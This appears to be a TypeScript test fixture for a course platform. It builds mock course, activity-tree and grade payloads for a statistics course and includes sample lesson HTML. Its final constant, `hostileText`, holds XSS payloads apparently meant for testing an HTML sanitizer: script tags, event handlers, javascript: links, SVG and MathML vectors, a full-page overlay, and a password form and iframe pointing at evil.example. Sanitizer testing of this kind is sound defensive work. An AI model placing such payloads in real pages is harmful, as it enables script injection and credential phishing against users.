import { activityTypes, displayModes, objectiveStates, presentationModes, workflowStates, type ActivityType, type DisplayMode, type ObjectiveState, type PresentationMode, type WorkflowState } from '../../domain/states.ts';

/** The time at which the states of this feature stand. */
export const stateNow = '2026-11-21T10:42:00Z';
export const objectiveId = 'course-sta210';
export const workflowId = 'run-1';

export interface PartSketch {
  readonly name: string;
  readonly type?: ActivityType;
  readonly state?: ObjectiveState;
  readonly workflow?: WorkflowState;
  readonly score?: number;
  readonly optional?: boolean;
  readonly available?: boolean;
  readonly contentAvailable?: boolean;
  readonly minutes?: number;
  readonly constraint?: Readonly<Record<string, string | number>>;
  readonly layout?: PresentationMode;
  readonly display?: DisplayMode;
  /** Preferred width and height. */
  readonly box?: readonly [width: number, height: number];
  readonly desktop?: boolean;
  /** Done together; `either` also alone. */
  readonly together?: boolean | 'either';
  readonly proctored?: boolean;
  readonly children?: readonly PartSketch[];
}

/** A part as the server sends it; ids are its place in the tree. */
function wirePart(sketch: PartSketch, index: number, above: string): object {
  const id = above ? `${above.split('/').at(-1) ?? ''}-${index + 1}` : `p${index + 1}`;
  const axis = above ? `${above}/${id}` : id;
  return {
    id,
    order: index,
    optional: sketch.optional ?? false,
    scoreWeight: 1,
    available: sketch.available ?? true,
    contentAvailable: sketch.contentAvailable ?? true,
    activityConstraint: sketch.constraint ?? null,
    activityPathId: `path-${id}`,
    axis,
    childActivity: wireActivity(sketch, axis),
  };
}

/** An activity as the server sends it. */
export function wireActivity(sketch: PartSketch, axis = ''): object {
  return {
    id: `activity-${axis || 'root'}`,
    name: sketch.name,
    code: null,
    type: activityTypes[sketch.type ?? (sketch.children ? 'composite' : 'text')],
    state: objectiveStates[sketch.state ?? 'ready'],
    duration: sketch.minutes ? sketch.minutes * 60 : null,
    supportReview: true,
    presentationMode: presentationModes[sketch.layout ?? 'tree'],
    displayMode: displayModes[sketch.display ?? 'embeddedAuto'],
    preferredWidth: sketch.box?.[0] ?? null,
    preferredHeight: sketch.box?.[1] ?? null,
    supportMobileView: sketch.desktop !== true,
    supportCollaborativeMode: Boolean(sketch.together),
    supportPersonalMode: sketch.together !== true,
    proctored: sketch.proctored ?? false,
    scored: sketch.score !== undefined,
    children: (sketch.children ?? []).map((child, index) => wirePart(child, index, axis)),
    activityWorkflowAggregate: {
      lastActivityWorkflow: sketch.workflow ? { id: `w-${axis}`, state: workflowStates[sketch.workflow], submitted: null, finished: null } : null,
      bestActivityRecord: sketch.score === undefined ? null : { passed: sketch.score >= 0.6, normalizedScore: sketch.score },
    },
  };
}

export interface CourseSketch {
  readonly state?: WorkflowState | null;
  readonly name?: string;
  readonly code?: string | null;
  readonly description?: string | null;
  readonly about?: string | null;
  readonly objectiveState?: ObjectiveState;
  readonly retake?: boolean;
  readonly record?: object | null;
  readonly parts?: readonly [done: number, total: number];
  /** In a catalog: not enrolled, or `enrolled`. */
  readonly catalog?: 'choosable' | 'enrolled';
  /** Taken under watch; its run names the session `session-1`. */
  readonly proctored?: boolean;
  /** It has an announcement channel. */
  readonly channel?: boolean;
  readonly more?: object;
}

/** A course as the server sends it. */
export function wireCourse({ state = null, parts = [12, 32], ...sketch }: CourseSketch = {}): object {
  const over = state !== null && state !== 'inProgress';
  return {
    id: 'access-1',
    userId: 'mira',
    objectiveAccessId: 'enrolment-1',
    objective: {
      id: objectiveId,
      name: sketch.name ?? 'Statistics for Clinical Researchers',
      code: sketch.code === undefined ? 'STA 210' : sketch.code,
      description: sketch.description === undefined ? 'What a sample can tell you about everybody else, and how sure you may be of it. For people who read or write clinical papers.' : sketch.description,
      about: sketch.about === undefined ? '<p>Eight modules, each with texts, an exercise and a short quiz.</p><h2>Who it is for</h2><ul><li>Researchers before their first trial</li><li>Reviewers of papers</li></ul>' : sketch.about,
      state: objectiveStates[sketch.objectiveState ?? 'ready'],
      imageUrl: null,
      showcases: [{ id: 's1', name: 'Research methods' }, { id: 's2', name: 'Life sciences' }],
      activity: { id: 'activity-root', type: 3, state: objectiveStates[sketch.objectiveState ?? 'ready'], duration: 50400, childrenCount: 8, presentationMode: 0, supportReview: true, proctored: false },
      announcementChannelId: sketch.channel ? 'channel-1' : null,
      gradingScaleId: null,
      gradingScale: { id: 'scale', name: 'Letter grades', maxScore: 50, grades: [] },
      proctored: sketch.proctored ?? false,
    },
    isMandatory: sketch.catalog === undefined,
    retake: sketch.retake ?? false,
    showInCatalog: sketch.catalog !== undefined,
    availabilityDate: null,
    availabilityEndDate: null,
    dueDate: '2026-12-18T22:59:00Z',
    gradeRevealPolicy: 'none',
    gradeRevealDate: null,
    termId: null,
    parts: { done: parts[0], total: parts[1] },
    objectiveWorkflowAggregate: {
      id: 'aggregate-1',
      isSelfEnrolled: sketch.catalog !== 'choosable',
      lastObjectiveWorkflow: state && {
        id: workflowId,
        state: workflowStates[state],
        progress: parts[0] / parts[1],
        started: '2026-11-03T09:00:00Z',
        submitted: over ? '2026-11-18T16:20:00Z' : null,
        finished: state === 'finished' ? '2026-11-20T08:00:00Z' : null,
        protectResults: false,
        objectiveRecordId: null,
      },
      lastObjectiveRecord: sketch.record ?? null,
      lastActivityWorkflow: sketch.proctored ? { id: 'root-run', state: 1, submitted: null, finished: null, lastProctoringSessionId: 'session-1' } : null,
    },
    ...sketch.more,
  };
}

/** A course as the server shows it to visitors. */
export function wirePublic(more: object = {}): object {
  const { objective } = wireCourse() as { readonly objective: Readonly<Record<string, unknown>> };
  const { id, name, code, description, about, imageUrl, showcases, activity, state } = objective;
  return { id, name, code, description, about, imageUrl, showcases, activity, state, objectiveAccessId: 'open-1', availabilityDate: null, availabilityEndDate: null, ...more };
}

export const passedRecord = { id: 'record-1', finished: '2026-11-20T08:00:00Z', score: 43, maxScore: 50, normalizedScore: 0.86, grade: 'A−', passed: true, progress: 1, protectResults: false };

/** A content tree in every state of a part. */
export const fullTree: PartSketch = {
  name: 'Statistics for Clinical Researchers',
  workflow: 'inProgress',
  children: [
    { name: '1. Foundations', workflow: 'finished', children: [{ name: '1.1 Why statistics', workflow: 'finished' }, { name: '1.2 Questions and data', workflow: 'finished' }, { name: '1.3 Kinds of variables', workflow: 'finished' }] },
    { name: '2. Describing data', workflow: 'finished', children: [{ name: '2.1 Centres', workflow: 'finished' }, { name: '2.2 Spreads', workflow: 'finished' }, { name: '2.3 Pictures', workflow: 'finished' }, { name: '2.4 Tables', workflow: 'finished' }] },
    {
      name: '3. Samples and populations',
      workflow: 'finished',
      children: [
        { name: '3.1 Populations and frames', workflow: 'finished' },
        { name: '3.2 Random is harder than it looks', type: 'video', workflow: 'finished', minutes: 8 },
        { name: '3.3 Quiz: sampling bias', type: 'lti', workflow: 'finished', score: 0.52 },
        { name: '3.4 Who did we really sample?', workflow: 'finished' },
      ],
    },
    {
      name: '4. Uncertainty',
      workflow: 'inProgress',
      children: [
        { name: '4.1 Why estimates vary', type: 'video', workflow: 'finished', minutes: 9 },
        { name: '4.2 What a confidence interval says', workflow: 'inProgress', minutes: 12 },
        { name: '4.3 Reading a forest plot', minutes: 10 },
        { name: '4.4 Discussion: a result you doubted', type: 'discussion', optional: true },
        { name: '4.5 Exercise: bootstrapping by hand', constraint: { due: '2026-11-28T12:00:00Z' } },
      ],
    },
    {
      name: '5. Tests and decisions',
      children: [
        { name: '5.1 The logic of a test', available: false },
        { name: '5.2 Live seminar with Dr Lindqvist', type: 'event', constraint: { startFrom: '2026-12-02T13:00:00Z' } },
        { name: '5.3 Power and sample size', state: 'draft' },
      ],
    },
    { name: '6. Analysis plan', constraint: { startUntil: '2026-11-15T22:59:00Z' } },
  ],
};

/** The same course with everything mandatory complete. */
export const doneTree: PartSketch = {
  name: 'A Short Course',
  workflow: 'inProgress',
  children: [
    { name: '1. Reading slowly', workflow: 'finished' },
    { name: '2. Reading closely', workflow: 'finished' },
    { name: '3. Reading aloud', optional: true },
  ],
};

const figure = `<svg viewBox="0 0 640 180" role="img" aria-label="Twelve intervals; one misses the mean"><line x1="20" x2="620" y1="90" y2="90" stroke="currentColor" stroke-dasharray="4"></line>${Array.from({ length: 12 }, (_, index) => `<line x1="${45 + index * 50}" x2="${45 + index * 50}" y1="${30 + ((index * 37) % 50)}" y2="${110 + ((index * 53) % 50)}" stroke="currentColor" stroke-width="2"></line>`).join('')}</svg>`;

/** A text as an author writes it. */
export const authorText = `<p>Suppose the same trial were run a hundred times, each time with new patients from the same population. You would get a hundred estimates and a hundred intervals around them. A 95 % confidence interval is a promise about that procedure: about ninety-five of the hundred will contain the true value.<sup><a href="#note-1" id="ref-1">1</a></sup></p>
<p>The one interval on your desk either contains it or does not, and nothing in the paper tells you which. The confidence lies in the method, not in the single result.</p>
<figure>${figure}<figcaption>Figure 4.2. Twelve samples of 40 patients from one population. The dashed line is the true mean.</figcaption></figure>
<blockquote>All models are wrong but some are useful.<footer>George Box, 1979</footer></blockquote>
<h2>Writing it in a report</h2>
<p>Give the estimate first, then the interval, then what it means for the patient in front of you. A reader who sees only a <i>p</i> value cannot tell a small certain effect from a large doubtful one. More in <a href="https://example.org/gardner">Gardner and Altman</a>.</p>
<table><caption>How the width of an interval changes</caption><thead><tr><th>Patients</th><th>Width</th></tr></thead><tbody><tr><td>40</td><td>12.1</td></tr><tr><td>160</td><td>6.0</td></tr></tbody></table>
<p id="note-1">1. Strictly, over many repetitions. <a href="#ref-1">Back</a></p>`;

/** What an attacker would have an author write. */
export const hostileText = `<p onclick="top.hacked=1">Before <script>top.hacked=1</script><img src="x" onerror="top.hacked=1"><a href="javascript:top.hacked=1">a link</a></p>
<style>* { display: none !important }</style><form action="https://evil.example"><input name="password"><button>Sign in</button></form><iframe src="https://evil.example"></iframe>
<svg><a xlink:href="javascript:top.hacked=1"><text y="20">svg</text></a><script>top.hacked=1</script></svg><math><mtext><img src=x onerror=top.hacked=1></mtext></math>
<div class="btn filled" data-route='{"name":"forbidden"}' style="position:fixed;inset:0" part="dialog">After</div><a href="#x" data-route="not json">trap</a>`;
